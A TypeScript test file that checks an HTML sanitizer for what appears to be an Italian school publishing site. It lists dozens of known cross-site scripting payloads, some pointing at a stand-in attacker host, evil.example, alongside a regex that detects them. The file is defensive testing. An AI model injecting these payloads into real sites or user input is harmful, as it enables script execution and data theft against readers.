import { describe, expect, test } from 'vitest'
import { cleanHtml, picturesIn, plainText, readingMinutes } from '#lib/publishing/safe-html.ts'

const PICTURE = '/mozzecane/allegati/0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b/orto.jpg'

/** Attacks that have worked somewhere; none may leave a trace that a browser would run or fetch. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${PICTURE}" onload="alert(1)" alt="x">`,
  '<img src="https://evil.example/pixel.gif" alt="spia">',
  '<img src="//evil.example/pixel.gif" alt="spia">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  '<img srcset="https://evil.example/a.png 1x" alt="x">',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">mensa</a>',
  '<a href="JaVaScRiPt:alert(1)">mensa</a>',
  '<a href="java\tscript:alert(1)">mensa</a>',
  '<a href="&#106;avascript:alert(1)">mensa</a>',
  '<a href=" javascript:alert(1)">mensa</a>',
  '<a href="vbscript:msgbox(1)">mensa</a>',
  '<a href="data:text/html,<script>alert(1)</script>">mensa</a>',
  '<a href="//evil.example">mensa</a>',
  '<a href="https://example.it" onclick="alert(1)" style="position:fixed;inset:0">mensa</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=codice-fiscale><button>Invia</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(https://evil.example/x)">testo</p>',
  '<p class="skip-link" id="contenuto">testo</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '<p>testo<',
  '<<p>script>alert(1)<</p>/script>',
]

const DANGER =
  /<(script|img(?! src="\/mozzecane)|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|template|video|audio|details|textarea|xmp)|<[^>]*\s(on\w+|style|class|id|srcset|target)\s*=|(href|src)="\s*(javascript|vbscript|data|\/\/)|evil\.example\/[xa.p]/i

describe('what an editor writes cannot run in a reader’s browser', () => {
  test.each(ATTACKS)('%s', (attack) => {
    const clean = cleanHtml(`<p>Prima</p>${attack}<p>Dopo</p>`)
    expect(clean).not.toMatch(DANGER)
    expect(clean).toContain('Prima')
    expect(cleanHtml(clean), 'cleaning twice changes nothing').toBe(clean)
  })

  test('the danger is seen where it is', () => {
    expect('<p onclick="x">').toMatch(DANGER)
    expect('<a href="javascript:alert(1)">').toMatch(DANGER)
    expect('<img src="https://evil.example/pixel.gif">').toMatch(DANGER)
  })

  test('a body without end is cut, not chewed for ever', () => {
    const deep = '<blockquote>'.repeat(5_000)
    expect(cleanHtml(`${deep}ciao`).length).toBeLessThan(1_000)
  })
})

describe('what an editor writes stays as written', () => {
  test('headings, lists, quotes, emphasis, links and our own pictures', () => {
    const body = `<h2>Orari</h2><p>La mensa <strong>riapre</strong> <em>lunedì</em>.</p><ul><li>primaria</li></ul><ol start="3"><li>c</li></ol><blockquote><p>cito</p></blockquote><p><a href="https://www.example.it/a">Il sito</a>, <a href="/mozzecane/documenti">i documenti</a>, <a href="mailto:a@example.it">scrivi</a></p><img src="${PICTURE}" alt="L’orto della scuola" />`
    expect(cleanHtml(body)).toBe(body)
    expect(picturesIn(cleanHtml(body))).toEqual(['0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b'])
  })

  test('a first-level heading becomes a second: the page has its own', () => {
    expect(cleanHtml('<h1>Titolo</h1><h5>Piccolo</h5><b>forte</b>')).toBe(
      '<h2>Titolo</h2><h4>Piccolo</h4><strong>forte</strong>',
    )
  })

  test('what Word leaves behind disappears, the words remain', () => {
    const pasted =
      '<p class=MsoNormal style="margin:0"><o:p>&nbsp;</o:p></p><p class=MsoNormal><span style="font-size:11pt;font-family:Calibri">Gentili <b>famiglie</b></span><o:p></o:p></p>'
    expect(cleanHtml(pasted)).toBe('<p>Gentili <strong>famiglie</strong></p>')
  })
})

describe('the words of a body', () => {
  test('go to feeds and search engines without marks', () => {
    expect(
      plainText(
        cleanHtml(
          '<h2>Menù</h2><p>Pasta &amp; <strong>fagioli</strong></p><ul><li>uno</li><li>due</li></ul>',
        ),
      ),
    ).toBe('Menù Pasta & fagioli uno due')
  })

  test('end a heading where they stand in one row', () => {
    const body = cleanHtml('<h2>Orari</h2><p>Alle 12.</p><h3><em>Perché?</em></h3><p>Per legge.</p>')
    expect(plainText(body, { endsHeadings: true })).toBe('Orari. Alle 12. Perché? Per legge.')
    expect(plainText(body)).toBe('Orari Alle 12. Perché? Per legge.')
  })

  test('are letters again, once: what was written as an entity stays one', () => {
    expect(plainText(cleanHtml('<p>2 &lt; 3 &amp;amp; «Caff&egrave;»</p>'))).toBe('2 < 3 &amp; «Caffè»')
  })

  test('take at least a minute to read', () => {
    expect(readingMinutes(cleanHtml('<p>Breve</p>'))).toBe(1)
    expect(readingMinutes(cleanHtml(`<p>${'parola '.repeat(540)}</p>`))).toBe(3)
  })
})
